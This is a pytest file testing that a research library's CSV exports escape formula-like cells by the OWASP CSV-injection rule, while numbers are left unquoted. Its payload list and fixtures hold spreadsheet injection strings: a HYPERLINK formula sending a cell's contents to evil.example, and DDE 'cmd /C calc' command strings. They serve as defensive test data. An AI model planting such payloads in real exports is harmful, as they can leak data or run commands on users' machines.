"""Spreadsheet-safe CSVs: formula-like cells are quoted, numbers stay numbers.

Reference: the OWASP "CSV Injection" advice — a cell that begins with ``=``,
``+``, ``-``, ``@``, tab or carriage return is prefixed with ``'``. The payloads
are those of issue 15. Each test reads the written file back as plain text
(``csv`` module, no type guessing), so it checks what a spreadsheet would get.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
import yaml

from research_lib.disclosure.suppression import write_published
from research_lib.io.csv_out import escape_cell, escape_formulas, unescape_formulas, write_csv
from research_lib.runner.cli import main
from tests.conftest import TOY, toy_row

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]


def cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def is_formula(text: str) -> bool:
    """What a spreadsheet treats as a formula start (the cells the tests must never see)."""
    return bool(text) and text[0] in "=+-@\t\r＝＋－＠" and not _is_number(text)


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_gets_a_leading_quote(payload):
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-3", "-1.5", "+5", "-1,5", "1e-3", "-2E+4", "a=b", " =1", ""])
def test_numbers_and_harmless_text_are_left_alone(value):
    assert escape_cell(value) == value


def test_frame_text_columns_header_and_index_escaped_numbers_kept(tmp_path):
    frame = pd.DataFrame(
        {
            "answer": pd.array([*PAYLOADS[:3], "-3", "добре"], dtype="string[pyarrow]"),
            "mixed": ["=1", 2, None, "-x", "ok"],
            "score": [-1.5, -2.0, 3.0, np.nan, 0.0],
            "group": pd.Categorical(["=g", "b", "=g", "b", "b"]),
            "=domain": [1, 2, 3, 4, 5],
        },
        index=pd.Index(["@r1", "r2", "r3", "r4", "r5"], name="respondent_id"),
    )
    path = write_csv(frame, tmp_path / "out.csv")
    rows = cells(path)
    assert rows[0] == ["respondent_id", "answer", "mixed", "score", "group", "'=domain"]
    assert not any(is_formula(cell) for row in rows for cell in row)
    assert rows[1][:2] == ["'@r1", "'" + PAYLOADS[0]]
    assert [row[3] for row in rows[1:]] == ["-1.5", "-2.0", "3.0", "", "0.0"]  # numbers unquoted
    assert [row[1] for row in rows[4:]] == ["-3", "добре"]
    back = pd.read_csv(path, dtype={"answer": "string"})
    assert back["score"].dtype == np.float64 and back["score"].iloc[0] == -1.5
    assert unescape_formulas(back["answer"]).tolist()[:3] == PAYLOADS[:3]
    assert frame.columns[-1] == "=domain"  # the caller's frame is not modified


def test_escape_formulas_keeps_dtypes_of_numeric_and_boolean_columns():
    frame = pd.DataFrame({"n": [1, -2], "x": [-0.5, 1.0], "b": [True, False], "s": ["-a", "b"]})
    out = escape_formulas(frame)
    assert out.dtypes.tolist() == frame.dtypes.tolist()
    assert out["s"].tolist() == ["'-a", "b"]


def test_write_csv_leaves_no_temporary_file(tmp_path):
    write_csv(pd.DataFrame({"a": ["=1"]}), tmp_path / "sub" / "x.csv", index=False)
    assert [p.name for p in (tmp_path / "sub").iterdir()] == ["x.csv"]


def test_published_csv_escapes_a_domain_id_starting_with_equals(tmp_path):
    figures = pd.DataFrame(
        {
            "table": "descriptives",
            "group": ["=cmd|' /C calc'!A0", "cnst"],
            "measure": ['=HYPERLINK("x")', "home"],
            "n": [12, 15],
            "value": [-3.25, 50.0],
            "ci_low": [-5.0, 40.0],
            "ci_high": [-1.0, 60.0],
        }
    )
    path = write_published(figures, tmp_path / "published.csv")
    rows = cells(path)
    assert not any(is_formula(cell) for row in rows for cell in row)
    assert rows[1][1:3] == ["'=cmd|' /C calc'!A0", '\'=HYPERLINK("x")']
    assert rows[1][4:7] == ["-3.25", "-5.0", "-1.0"]


@pytest.fixture()
def hostile_survey(tmp_path):
    """Three toy rows: one valid with a formula id, two rejected with formula values."""
    rows = [
        toy_row(respondent_id=PAYLOADS[0], service_id="@SUM(A1:A9)"),
        toy_row(respondent_id="r2", placement_type=PAYLOADS[1]),
        toy_row(respondent_id="r3", oblast="@SUM(1+1)*cmd|' /C calc'!A0", h1="-x"),
    ]
    survey = tmp_path / "survey.csv"
    pd.DataFrame(rows).to_csv(survey, index=False)
    book = tmp_path / "toy.yaml"
    book.write_text(yaml.safe_dump(TOY, allow_unicode=True), encoding="utf-8")
    return survey, book


def test_cli_rejected_out_and_score_out_are_escaped(hostile_survey, tmp_path, capsys):
    survey, book = hostile_survey
    rejected = tmp_path / "rejected.csv"
    assert (
        main(["validate", str(survey), "--codebook", str(book), "--rejected-out", str(rejected)])
        == 1
    )
    rows = cells(rejected)
    assert len(rows) > 3
    assert not any(is_formula(cell) for row in rows for cell in row)
    assert ["3", "placement_type", "'" + PAYLOADS[1]] == rows[1][:3]

    scored = tmp_path / "scored.csv"
    assert main(["score", str(survey), "--codebook", str(book), "--out", str(scored)]) == 1
    capsys.readouterr()
    rows = cells(scored)
    assert not any(is_formula(cell) for row in rows for cell in row)
    assert rows[1][0] == "'" + PAYLOADS[0] and "'@SUM(A1:A9)" in rows[1]
